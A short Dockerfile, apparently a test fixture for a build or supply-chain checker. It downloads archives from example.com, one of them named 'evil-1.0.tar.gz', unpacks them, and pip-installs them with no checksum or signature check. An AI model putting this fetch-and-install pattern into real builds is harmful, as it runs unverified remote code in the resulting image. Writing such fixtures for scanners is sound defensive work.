FROM python:3.12
WORKDIR /tmp
RUN wget https://example.com/evil-1.0.tar.gz && tar xzf evil-1.0.tar.gz && pip install --only-binary :all: ./evil-1.0
ADD https://example.com/v2.tar.gz /src/v2.tar.gz
RUN tar -C /src/p -xf /src/v2.tar.gz --strip-components=1 && pip install --only-binary :all: /src/p
RUN curl -LO https://example.com/x.zip && unzip x.zip -d /opt && pip install --only-binary :all: /opt/x
COPY . /app
RUN tar xzf /app/vendored.tar.gz && pip install --only-binary :all: ./vendored
